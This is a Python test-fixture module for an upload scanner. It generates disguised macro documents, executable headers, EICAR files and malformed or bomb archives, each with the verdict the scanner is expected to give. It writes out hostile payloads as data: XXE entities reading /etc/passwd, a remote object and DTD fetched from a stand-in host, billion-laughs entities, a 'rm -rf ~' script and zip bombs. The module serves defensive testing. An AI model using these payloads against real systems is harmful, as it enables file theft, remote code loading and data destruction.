"""Documents that must never be opened by anyone, and ordinary ones that must be, all built when they are asked for.

No malware is stored or made here: executables are headers without code, macros do nothing, and the file of EICAR, which every
scanner knows for the purpose (eicar.org), is put together from two halves.

What is expected of each:

* `rejected`: said to be bad, for certain.
* `unscannable`: can't be looked into; only staff's recorded decision releases it.
* `never_clean`: rejected, unscannable or still in quarantine, whatever the code prefers; never clean.
* `clean`: an ordinary document of an ordinary person. Refusing it hurts them.
* `bounded`: any state will do, but soon, within the limits of memory, and with the next document judged as ever.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from tests.reference import hostile_pdf as pdf
from tests.reference import hostile_zip as zips
from tests.reference.hostile_zip import Member, archive, zip_of
from tests.reference.ole_writer import write as ole

_SAMPLES = Path(__file__).parents[1] / "support" / "samples"

Expected = Literal["rejected", "unscannable", "never_clean", "clean", "bounded"]


@dataclass(frozen=True)
class Example:
    """One document.

    Attributes:
        key: A name for the test.
        name: What the sender's device calls it; itself harmless, so that the content decides.
        declared_type: What the sender's device says it is.
        needs_scanner: Only a scanner can know (EICAR); with the scanner away it must not be clean either.
    """

    key: str
    name: str
    declared_type: str
    make: Callable[[], bytes]
    expected: Expected
    why: str
    needs_scanner: bool = False
    heavy: bool = False


EXAMPLES: list[Example] = []

PDF, JPEG, PNG, GIF, TIFF, TEXT, CSV, ZIP = (
    "application/pdf", "image/jpeg", "image/png", "image/gif", "image/tiff", "text/plain", "text/csv", "application/zip",
)  # fmt: skip
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
DOC, XLS, RTF = "application/msword", "application/vnd.ms-excel", "application/rtf"
UNKNOWN = "application/octet-stream"


def _add(
    key: str,
    name: str,
    declared_type: str,
    make: Callable[[], bytes],
    expected: Expected,
    why: str,
    **more: bool,
) -> None:
    assert key not in {each.key for each in EXAMPLES}, key
    EXAMPLES.append(Example(key, name, declared_type, make, expected, why, **more))


def eicar() -> bytes:
    """The 68 bytes of eicar.org."""
    return (rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EIC" + rb"AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").replace(b"\\\\", b"\\")


# --- Office documents -----------------------------------------------------------------------------------------------

_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _relations(*rows: tuple[str, str], external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    inside = "".join(
        f'<Relationship Id="rId{at}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>' for at, (kind, target) in enumerate(rows, 1)
    )
    return f'{_XML}<Relationships xmlns="{_RELATIONS}">{inside}</Relationships>'.encode()


def _types(main: str, main_part: str, *more: tuple[str, str]) -> bytes:
    rows = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    rows += '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    rows += '<Default Extension="bin" ContentType="application/octet-stream"/>'
    rows += f'<Override PartName="/{main_part}" ContentType="{main}"/>'
    rows += "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in more)
    return f'{_XML}<Types xmlns="{_TYPES}">{rows}</Types>'.encode()


def docx_files(text: str = "I am writing about my refund for 2022.", main: str = _WORD_MAIN, *more: tuple[str, str]) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": _types(main, "word/document.xml", *more),
        "_rels/.rels": _relations(("officeDocument", "word/document.xml")),
        "word/document.xml": (
            f'{_XML}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
        ).encode(),
    }


def xlsx_files(main: str = _SHEET_MAIN, *more: tuple[str, str]) -> dict[str, bytes]:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return {
        "[Content_Types].xml": _types(main, "xl/workbook.xml", ("xl/worksheets/sheet1.xml", sheet), *more),
        "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{_XML}<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
            '<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": _relations(("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": (
            f'{_XML}<worksheet xmlns="{_SHEET}"><sheetData><row r="1"><c r="A1"><v>950</v></c></row></sheetData></worksheet>'
        ).encode(),
    }


def docx(**parts: bytes) -> bytes:
    return zip_of(docx_files() | {name.replace("__", "/"): data for name, data in parts.items()})


def docx_with(parts: dict[str, bytes]) -> bytes:
    return zip_of(docx_files() | parts)


def vba_project() -> bytes:
    """An OLE file with the storages of a macro project and nothing in them that does anything."""
    return ole({"VBA/dir": b"\x01\x00", "VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/ThisDocument": b"Sub AutoOpen()", "PROJECT": b"ID="})


def _macro_docx(part: str = "word/vbaProject.bin", main: str = "application/vnd.ms-word.document.macroEnabled.main+xml") -> bytes:
    files = docx_files("Invoice", main, (part, "application/vnd.ms-office.vbaProject"))
    files["word/_rels/document.xml.rels"] = (
        f'{_XML}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId9" '
        f'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="/{part}"/></Relationships>'
    ).encode()
    return zip_of(files | {part: vba_project()})


def _macro_xlsx() -> bytes:
    files = xlsx_files(
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml", ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    )
    return zip_of(files | {"xl/vbaProject.bin": vba_project()})


def _macro_sheet() -> bytes:
    files = xlsx_files(_SHEET_MAIN, ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))
    sheet = f'{_XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{_SHEET}"/>'
    return zip_of(files | {"xl/macrosheets/sheet1.xml": sheet.encode()})


def _macro_pptx() -> bytes:
    main = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
    return zip_of(
        {
            "[Content_Types].xml": _types(main, "ppt/presentation.xml"),
            "_rels/.rels": _relations(("officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f'{_XML}<p:presentation xmlns:p="p"/>'.encode(),
            "ppt/vbaProject.bin": vba_project(),
        }
    )


_WORD_CLASS = bytes.fromhex("0609020000000000C000000000000046")
_MSI_CLASS = bytes.fromhex("84100C0000000000C000000000000046")


def word_document(more: dict[str, bytes] | None = None, flags: int = 0) -> bytes:
    """An old Word document as far as its first 12 bytes tell ([MS-DOC] 2.5.2)."""
    fib = struct.pack("<HHHHHHHH", 0xA5EC, 0xC1, 0, 0x409, 0, flags, 0xBF, 0) + b"Dear advocate, about my refund."
    return ole({"WordDocument": fib, "1Table": b"\0", **(more or {})}, _WORD_CLASS)


_MACROS = {"Macros/VBA/dir": b"\1", "Macros/VBA/_VBA_PROJECT": b"\xcc\x61", "Macros/PROJECT": b"ID="}

_add("macro-docx", "letter.docx", DOCX, _macro_docx, "rejected", "a .docm called .docx")
_add("macro-docx-as-pdf", "letter.pdf", PDF, _macro_docx, "rejected", "a .docm called .pdf")
_add("macro-docx-as-zip", "letter.zip", ZIP, _macro_docx, "rejected", "a .docm called .zip")
_add("macro-docx-no-name", "letter", UNKNOWN, _macro_docx, "rejected", "a .docm without extension or type")
_add("macro-docx-plain-type", "letter.docx", DOCX, lambda: _macro_docx(main=_WORD_MAIN), "rejected",
     "a macro project in a document that says it has none")  # fmt: skip
_add("macro-docx-elsewhere", "letter.docx", DOCX, lambda: _macro_docx("word/media/image1.bin"), "rejected",
     "a macro project under another name, known by its relation and type")  # fmt: skip
_add("macro-docx-case", "letter.docx", DOCX, lambda: _macro_docx("word/VBAPROJECT.BIN", _WORD_MAIN), "rejected",
     "part names are compared without case")  # fmt: skip
_add("macro-docx-template-type", "letter.docx", DOCX,
     lambda: zip_of(docx_files("x", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")), "rejected",
     "a .dotm by its type, its project taken out")  # fmt: skip
_add("macro-docx-utf16-types", "letter.docx", DOCX,
     lambda: zip_of(docx_files() | {"[Content_Types].xml": _types("application/vnd.ms-word.document.macroEnabled.main+xml",
                                                                   "word/document.xml").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
                                    "word/vbaProject.bin": vba_project()}),
     "rejected", "the table of types in UTF-16")  # fmt: skip
_add("macro-xlsx", "budget.xlsx", XLSX, _macro_xlsx, "rejected", "an .xlsm called .xlsx")
_add("macro-xlsx-as-pdf", "budget.pdf", PDF, _macro_xlsx, "rejected", "an .xlsm called .pdf")
_add("macro-xlsx-as-csv", "budget.csv", CSV, _macro_xlsx, "rejected", "an .xlsm called .csv")
_add("macro-sheet", "budget.xlsx", XLSX, _macro_sheet, "rejected", "a sheet of Excel 4 macros")
_add("macro-pptx", "slides.pptx", PPTX, _macro_pptx, "rejected", "a .pptm called .pptx")
_add("macro-docx-in-zip", "documents.zip", ZIP, lambda: zip_of({"letter.docx": _macro_docx(), "page.pdf": pdf.ordinary()}),
     "rejected", "a macro document in an archive")  # fmt: skip
_add("macro-docx-in-zip-in-zip", "documents.zip", ZIP,
     lambda: zip_of({"more.zip": zip_of({"letter.docx": _macro_docx()}), "page.pdf": pdf.ordinary()}), "rejected",
     "a macro document in an archive in an archive")  # fmt: skip
_add("macro-docx-as-embedding", "letter.docx", DOCX, lambda: docx_with({"word/embeddings/budget.xlsx": _macro_xlsx()}), "never_clean",
     "a macro workbook embedded in a document")  # fmt: skip
_add("activex-docx", "letter.docx", DOCX,
     lambda: docx_with({"word/activeX/activeX1.bin": ole({"contents": b"x"}), "word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='a'/>"}),
     "never_clean", "an ActiveX control")  # fmt: skip
_add("exe-embedded-docx", "letter.docx", DOCX,
     lambda: docx_with({"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": b"\0\0\0\0\2\0invoice.exe\0" + portable_executable()})}),
     "never_clean", "a program packed into a document")  # fmt: skip
_add("vba-doc", "letter.doc", DOC, lambda: word_document(_MACROS), "rejected", "an old Word document with macros")
_add("vba-doc-as-pdf", "letter.pdf", PDF, lambda: word_document(_MACROS), "rejected", "an old Word document with macros, called .pdf")
_add("vba-doc-as-docx", "letter.docx", DOCX, lambda: word_document(_MACROS), "rejected", "an old Word document with macros, called .docx")
_add("vba-doc-as-rtf", "letter.rtf", RTF, lambda: word_document(_MACROS), "rejected", "an old Word document with macros, called .rtf")
_add("vba-xls", "budget.xls", XLS,
     lambda: ole({"Workbook": b"\x09\x08\x10\0", "_VBA_PROJECT_CUR/VBA/dir": b"\1", "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT": b"\xcc\x61"}),
     "rejected", "an old workbook with macros")  # fmt: skip
_add("vba-xls-upper-case", "budget.xls", XLS,
     lambda: ole({"WORKBOOK": b"\x09\x08\x10\0", "_Vba_Project_Cur/vba/DIR": b"\1", "_Vba_Project_Cur/vba/_vba_project": b"\xcc\x61"}),
     "rejected", "names of storages are compared without case ([MS-CFB] 2.6.4)")  # fmt: skip
_add("ole-package", "letter.doc", DOC,
     lambda: word_document({"ObjectPool/_1/\x01Ole10Native": b"\0\0\0\0\2\0run.exe\0" + portable_executable()}), "never_clean",
     "a program packed into an old document")  # fmt: skip
_add("vba-project-alone", "photo.jpg", JPEG, vba_project, "rejected", "a macro project by itself, called .jpg")
_add("mht-activemime", "letter.doc", DOC,
     lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Location: editdata.mso\r\n"
     b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
     + base64.b64encode(b"ActiveMime" + bytes(40) + zlib.compress(vba_project())) + b"\r\n--b--\r\n",
     "never_clean", "a web archive with macros, called .doc")  # fmt: skip
_add("rtf-object", "letter.rtf", RTF,
     lambda: rb"{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500"
     + portable_executable().hex().encode() + rb"}}Dear advocate}", "never_clean", "an object in rich text")  # fmt: skip
_add("rtf-object-hidden", "letter.rtf", RTF,
     lambda: rb"{\rtf1{\object\objocx{\*\objdata" + b"\n" + rb"{\*\zz 00}0 1 0 5 0 0 0 0 02000000" + b"\r\n" + rb"4f4c45}}}", "never_clean",
     "an object in rich text, its digits broken up")  # fmt: skip
_add("rtf-object-as-doc", "letter.doc", DOC, lambda: rb"{\rt{\object\objupdate{\*\objdata 01050000}}}", "never_clean",
     "rich text with an object and a short head, called .doc: Word opens it")  # fmt: skip
_add("docx-remote-frame", "letter.docx", DOCX,
     lambda: docx_with({"word/_rels/document.xml.rels": _relations(("oleObject", "http://192.0.2.7/x.html!"), external=True)}),
     "never_clean", "an object that is fetched from elsewhere when it is opened (as CVE-2022-30190)")  # fmt: skip
_add("docx-billion-laughs", "letter.docx", DOCX, lambda: docx_with({"word/document.xml": _billion_laughs()}), "never_clean",
     "entities that grow a thousand million times")  # fmt: skip
_add("docx-xxe", "letter.docx", DOCX,
     lambda: docx_with({"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                             b'<w:document xmlns:w="' + _WORD.encode() + b'">&x;</w:document>'}),
     "never_clean", "an entity that reads a file")  # fmt: skip
_add("docx-xxe-types", "letter.docx", DOCX,
     lambda: docx_with({"[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE t SYSTEM "http://192.0.2.7/x.dtd">'
                                               b'<Types xmlns="' + _TYPES.encode() + b'"/>'}),
     "never_clean", "an outside DTD in the table of types")  # fmt: skip
_add("docx-xxe-utf16", "letter.docx", DOCX,
     lambda: docx_with({"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                             f'<w:document xmlns:w="{_WORD}">&x;</w:document>'.encode("utf-16")}),
     "never_clean", "an entity that reads a file, in UTF-16")  # fmt: skip
_add("docx-bomb", "letter.docx", DOCX,
     lambda: archive([*(Member(name.encode(), data) for name, data in docx_files().items() if name != "word/document.xml"),
                      _zeros_member(b"word/document.xml", 1 << 28)]),
     "never_clean", "a document whose text is 256 MiB of zeros", heavy=True)  # fmt: skip
_add("docx-no-types", "letter.docx", DOCX, lambda: zip_of({"word/document.xml": b"<x/>"}), "never_clean",
     "an archive called .docx that is no document")  # fmt: skip
_add("docx-also-jar", "letter.docx", DOCX,
     lambda: docx_with({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: A\r\n", "A.class": java_class()}), "never_clean",
     "a document that Java runs")  # fmt: skip
_add("docx-with-exe", "letter.docx", DOCX, lambda: docx_with({"word/media/image1.png": portable_executable()}), "never_clean",
     "a program in place of a picture")  # fmt: skip
_add("docx-encrypted", "letter.docx", DOCX,
     lambda: ole({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>", "EncryptedPackage": bytes(range(256)) * 20}),
     "unscannable", "a document with a password ([MS-OFFCRYPTO])")  # fmt: skip
_add("doc-encrypted", "letter.doc", DOC, lambda: word_document(flags=0x0100), "never_clean",
     "an old document with a password (fEncrypted, [MS-DOC] 2.5.2)")  # fmt: skip


def _billion_laughs() -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><w:document xmlns:w="{_WORD}">&l9;</w:document>'.encode()


# --- Programs -------------------------------------------------------------------------------------------------------


def portable_executable() -> bytes:
    """A header of a Windows program, without code."""
    mz = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 0x80) + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run"
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + struct.pack("<H", 0x20B) + bytes(238)
    section = b".text\0\0\0" + bytes(32)
    return (mz.ljust(0x80, b"\0") + coff + section).ljust(1024, b"\0")


def elf(bits: int = 64) -> bytes:
    head = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1, 0]) + bytes(8)
    return (head + struct.pack("<HHI", 2, 62 if bits == 64 else 3, 1)).ljust(512, b"\0")


def java_class() -> bytes:
    return struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 1) + bytes(40)


def shortcut() -> bytes:
    """[MS-SHLLINK] 2.1."""
    return struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000C000000000000046") + struct.pack("<I", 0x9B) + bytes(52 + 200)


PROGRAMS: dict[str, Callable[[], bytes]] = {
    "pe": portable_executable,
    "mz-of-dos": lambda: (b"MZ" + struct.pack("<HHHHHH", 0x90, 3, 0, 4, 0, 0xFFFF)).ljust(600, b"\x90"),
    "elf-64": elf,
    "elf-32": lambda: elf(32),
    "mach-o-64": lambda: struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 0, 0, 0, 0).ljust(512, b"\0"),
    "mach-o-32-big": lambda: struct.pack(">IIIIIII", 0xFEEDFACE, 18, 0, 2, 0, 0, 0).ljust(512, b"\0"),
    "mach-o-fat": lambda: struct.pack(">IIIIIIII", 0xCAFEBABE, 2, 7, 3, 4096, 512, 12, 0).ljust(512, b"\0"),
    "java-class": java_class,
    "dex": lambda: b"dex\n035\0".ljust(300, b"\0"),
    "wasm": lambda: b"\0asm\x01\0\0\0" + bytes(100),
    "shebang": lambda: b"#!/bin/sh\nrm -rf ~\n",
    "shebang-behind-a-mark": lambda: b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n",
    "shortcut": shortcut,
    "installer": lambda: ole({"\u4840\u3f3f\u4577": b"x"}, _MSI_CLASS),
    "cabinet": lambda: b"MSCF" + bytes(4) + struct.pack("<I", 200) + bytes(200),
    "help-file": lambda: b"ITSF" + struct.pack("<III", 3, 96, 1) + bytes(200),
    "jar": lambda: zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: A\r\n", "A.class": java_class()}),
    "apk": lambda: zip_of({"AndroidManifest.xml": b"\3\0\x08\0", "classes.dex": b"dex\n035\0" + bytes(200)}),
    "disc-image": lambda: bytes(32_769) + b"CD001\1\0" + bytes(2041),
    "flash": lambda: b"CWS\x0a" + struct.pack("<I", 500) + zlib.compress(bytes(400)),
}
for _kind, _make in PROGRAMS.items():
    _add(f"{_kind}-as-pdf", "notice.pdf", PDF, _make, "rejected", f"{_kind} called .pdf")
    _add(f"{_kind}-as-text", "notes.txt", TEXT, _make, "never_clean", f"{_kind} called .txt")
    _add(f"{_kind}-no-name", "notice", UNKNOWN, _make, "never_clean", f"{_kind} without extension or type")
    _add(f"{_kind}-in-zip", "papers.zip", ZIP,
         lambda make=_make: zip_of({"notice.pdf": make(), "real.pdf": pdf.ordinary()}), "never_clean",  # type: ignore[misc]
         f"{_kind} in an archive, called .pdf")  # fmt: skip
for _kind in ("pe", "elf-64", "shebang", "shortcut"):
    _add(f"{_kind}-as-jpg", "photo.jpg", JPEG, PROGRAMS[_kind], "rejected", f"{_kind} called .jpg")
    _add(f"{_kind}-as-docx", "letter.docx", DOCX, PROGRAMS[_kind], "rejected", f"{_kind} called .docx")
_add("hta-as-doc", "letter.doc", DOC, lambda: b"<html><hta:application id=a><script>new ActiveXObject('WScript.Shell')</script></html>",
     "never_clean", "an HTML application called .doc")  # fmt: skip
_add("blocked-name-in-zip", "papers.zip", ZIP, lambda: zip_of({"invoice.js": b"1", "page.pdf": pdf.ordinary()}), "never_clean",
     "a name of seed 002's list within an archive")  # fmt: skip
_add("blocked-double-name-in-zip", "papers.zip", ZIP, lambda: zip_of({"invoice.pdf.exe": b"hello"}), "never_clean",
     "a double extension within an archive")  # fmt: skip
_add("blocked-name-in-zip-in-zip", "papers.zip", ZIP, lambda: zip_of({"a.zip": zip_of({"b.zip": zip_of({"c.vbs": b"1"})})}), "never_clean",
     "a name of seed 002's list two archives down")  # fmt: skip
_add("blocked-rtl-name-in-zip", "papers.zip", ZIP, lambda: zip_of({"invoice\u202efdp.exe": b"hello"}), "never_clean",
     "a disguised name within an archive")  # fmt: skip
_add("blocked-case-name-in-zip", "papers.zip", ZIP, lambda: zip_of({"folder/INVOICE.ScR ": b"hello"}), "never_clean",
     "a disguised name in a folder within an archive")  # fmt: skip

# --- EICAR ----------------------------------------------------------------------------------------------------------

_add("eicar", "notes.txt", TEXT, eicar, "rejected", "the test file of all scanners", needs_scanner=True)
_add("eicar-line-end", "notes.txt", TEXT, lambda: eicar() + b"\r\n", "rejected", "and a line's end", needs_scanner=True)
_add("eicar-as-pdf", "notice.pdf", PDF, eicar, "rejected", "called .pdf", needs_scanner=True)
_add("eicar-zip", "papers.zip", ZIP, lambda: zip_of({"notes.txt": eicar(), "page.pdf": pdf.ordinary()}), "rejected",
     "in an archive", needs_scanner=True)  # fmt: skip
_add("eicar-zip-last-of-many", "papers.zip", ZIP,
     lambda: zip_of({f"page{n}.pdf": pdf.ordinary(f"Page {n}") for n in range(60)} | {"notes.txt": eicar()}), "rejected",
     "behind sixty honest members", needs_scanner=True)  # fmt: skip
_add("eicar-zip-zip", "papers.zip", ZIP, lambda: zip_of({"more.zip": zip_of({"notes.txt": eicar()})}), "rejected", "two archives down",
     needs_scanner=True)  # fmt: skip
_add("eicar-zip-zip-zip", "papers.zip", ZIP,
     lambda: zip_of({"more.zip": zip_of({"yet.zip": zip_of({"notes.txt": eicar()}), "page.pdf": pdf.ordinary()})}), "never_clean",
     "three archives down", needs_scanner=True)  # fmt: skip
_add("eicar-zip-no-extension", "papers.zip", ZIP, lambda: zip_of({"more": zip_of({"notes": eicar()})}), "never_clean",
     "an archive without a name within an archive", needs_scanner=True)  # fmt: skip
_add("eicar-docx-media", "letter.docx", DOCX, lambda: docx_with({"word/media/image1.png": eicar()}), "rejected", "among a document's pictures",
     needs_scanner=True)  # fmt: skip
_add("eicar-xlsx-extra", "budget.xlsx", XLSX, lambda: zip_of(xlsx_files() | {"xl/notes.txt": eicar()}), "rejected", "beside a sheet",
     needs_scanner=True)  # fmt: skip
_add("eicar-stored-over-frames", "papers.zip", ZIP,
     lambda: zip_of({"a.txt": b"lorem ipsum\n" * 5_456, "notes.txt": eicar()}, stored=True), "never_clean",
     "stored so that it lies over the border of two frames", needs_scanner=True)  # fmt: skip
_add("eicar-beyond-a-megabyte", "papers.zip", ZIP,
     lambda: archive([Member(b"long.txt", _noise(3_000_000), method=0), Member(b"notes.txt", eicar())]), "never_clean",
     "behind three megabytes", needs_scanner=True)  # fmt: skip
_add("eicar-local-name-differs", "papers.zip", ZIP,
     lambda: archive([Member(b"notes.txt", eicar(), local_name=b"photo.jpg")]), "never_clean",
     "local header and directory disagree", needs_scanner=True)  # fmt: skip
_add("eicar-not-in-directory", "papers.zip", ZIP,
     lambda: archive([Member(b"page.pdf", pdf.ordinary())], prefix=zip_of({"notes.txt": eicar()})), "never_clean",
     "a member that the directory doesn't name", needs_scanner=True)  # fmt: skip
_add("eicar-two-ends", "papers.zip", ZIP, lambda: zip_of({"page.pdf": pdf.ordinary()}) + zip_of({"notes.txt": eicar()}), "never_clean",
     "two archives one after the other: readers differ in which they read", needs_scanner=True)  # fmt: skip
_add("eicar-in-pdf", "notice.pdf", PDF, lambda: _pdf_with_file("notes.txt", eicar()), "never_clean", "a file attached to a PDF",
     needs_scanner=True)  # fmt: skip
_add("eicar-gzip", "papers.gz", "application/gzip", lambda: gzip.compress(eicar(), mtime=0), "never_clean", "in gzip", needs_scanner=True)
_add("eicar-tar", "papers.tar", "application/x-tar", lambda: _tar({"notes.txt": eicar()}), "never_clean", "in tar", needs_scanner=True)
_add("eicar-mail", "message.eml", "message/rfc822",
     lambda: b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
     b"Content-Type: application/octet-stream; name=n.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(eicar())
     + b"\r\n--b--\r\n", "never_clean", "attached to a mail", needs_scanner=True)  # fmt: skip


def _noise(count: int) -> bytes:
    """Bytes that don't pack, the same each time."""
    out = bytearray()
    number = 0
    while len(out) < count:
        out += hashlib.shake_256(number.to_bytes(8, "big")).digest(65_536)
        number += 1
    return bytes(out[:count])


def _tar(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as tar:
        for name, data in files.items():
            one = tarfile.TarInfo(name)
            one.size = len(data)
            tar.addfile(one, io.BytesIO(data))
    return made.getvalue()


# --- Archives -------------------------------------------------------------------------------------------------------


def _zeros_member(name: bytes, count: int, **more: int) -> Member:
    packed, crc = zips.deflated_zeros(count)
    return Member(name, packed=packed, crc=crc, size=more.get("size", count & 0xFFFFFFFF), local_size=more.get("size"))


def _nested(levels: int, width: int) -> bytes:
    """As 42.zip: each level holds the one below `width` times."""
    inside = zip_of({f"{n}.txt": bytes(4_000_000) for n in range(width)})
    for level in range(levels):
        inside = zip_of({f"level{level}-{n}.zip": inside for n in range(width)})
    return inside


def _lying_zip64() -> bytes:
    extra = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 61)
    return archive([Member(b"page.pdf", pdf.ordinary(), size=0xFFFFFFFF, packed_size=0xFFFFFFFF, extra=extra)], zip64=True)


def _end_says(**says: int) -> bytes:
    one = Member(b"page.pdf", pdf.ordinary())
    body = one.local() + (one.packed or b"")
    directory = one.central(0)
    tail = zips.end(says.get("count", 1), says.get("size", len(directory)), says.get("at", len(body)))
    return body + directory + tail


def _zip64_elsewhere() -> bytes:
    """The usual end names one directory, the 64-bit end another."""
    first, second = Member(b"page.pdf", pdf.ordinary()), Member(b"run.exe", portable_executable())
    body = first.local() + (first.packed or b"")
    second_at = len(body)
    body += second.local() + (second.packed or b"")
    shown, hidden = first.central(0), second.central(second_at)
    shown_at = len(body)
    hidden_at = shown_at + len(shown)
    body += shown + hidden
    body += zips.zip64_end(1, len(hidden), hidden_at, len(body))
    return body + zips.end(1, len(shown), shown_at)


def _end_in_comment() -> bytes:
    """The comment holds another end: whoever looks from the back finds the other directory."""
    inner = zip_of({"run.exe": portable_executable()})
    return archive([Member(b"page.pdf", pdf.ordinary())], comment=inner)


_SYMLINK = 0o120777 << 16

_add("zip-nested-bomb", "papers.zip", ZIP, lambda: _nested(5, 8), "never_clean", "8 archives in 8 archives, six deep: a terabyte")
_add("zip-deep", "papers.zip", ZIP, lambda: _nested(40, 1), "never_clean", "forty archives, one in another")
_add("zip-overlapping", "papers.zip", ZIP, lambda: zips.overlapping_same(200), "never_clean", "200 members that are the same bytes")
_add("zip-overlapping-quoted", "papers.zip", ZIP, lambda: zips.overlapping_quoted(100), "never_clean",
     "members that quote each other's headers (Fifield)")  # fmt: skip
_add("zip-overlapping-small", "papers.zip", ZIP, lambda: zips.overlapping_quoted(30, 50_000), "never_clean",
     "members that overlap, though their sum is small")  # fmt: skip
_add("zip-ratio", "papers.zip", ZIP, lambda: archive([_zeros_member(b"zeros.txt", 1 << 30)]), "never_clean", "1 GiB of zeros in a megabyte",
     heavy=True)  # fmt: skip
_add("zip-ratio-says-10", "papers.zip", ZIP, lambda: archive([_zeros_member(b"zeros.txt", 1 << 28, size=10)]), "never_clean",
     "256 MiB of zeros that say they are 10 bytes")  # fmt: skip
_add("zip-ratio-says-0-later", "papers.zip", ZIP,
     lambda: archive([Member(b"zeros.txt", bytes(50_000_000), size=0, flags=zips.UTF8 | 8)]), "never_clean",
     "50 MB that say they are none, sizes behind")  # fmt: skip
_add("zip-many-entries", "papers.zip", ZIP,
     lambda: archive([Member(f"{n}.txt".encode(), method=0) for n in range(100_000)]), "never_clean", "100,000 members", heavy=True)  # fmt: skip
_add("zip-many-entries-unsaid", "papers.zip", ZIP, lambda: _many_unsaid(), "never_clean", "30,000 members, the end speaks of one")
_add("zip-zip64-sizes", "papers.zip", ZIP, _lying_zip64, "never_clean", "a member that says it has 2**62 bytes")
_add("zip-zip64-elsewhere", "papers.zip", ZIP, _zip64_elsewhere, "never_clean", "two ends that name different directories")
_add("zip-zip64-nowhere", "papers.zip", ZIP,
     lambda: (lambda made: made[:-42] + struct.pack("<IIQI", 0x07064B50, 0, 1 << 60, 1) + made[-22:])(
         archive([Member(b"page.pdf", pdf.ordinary())], zip64=True)), "never_clean", "a 64-bit end that isn't there")  # fmt: skip
_add("zip-end-beyond", "papers.zip", ZIP, lambda: _end_says(at=0x7FFFFFFF), "never_clean", "a directory beyond the end")
_add("zip-end-huge", "papers.zip", ZIP, lambda: _end_says(size=0x7FFFFFFF), "never_clean", "a directory larger than the file")
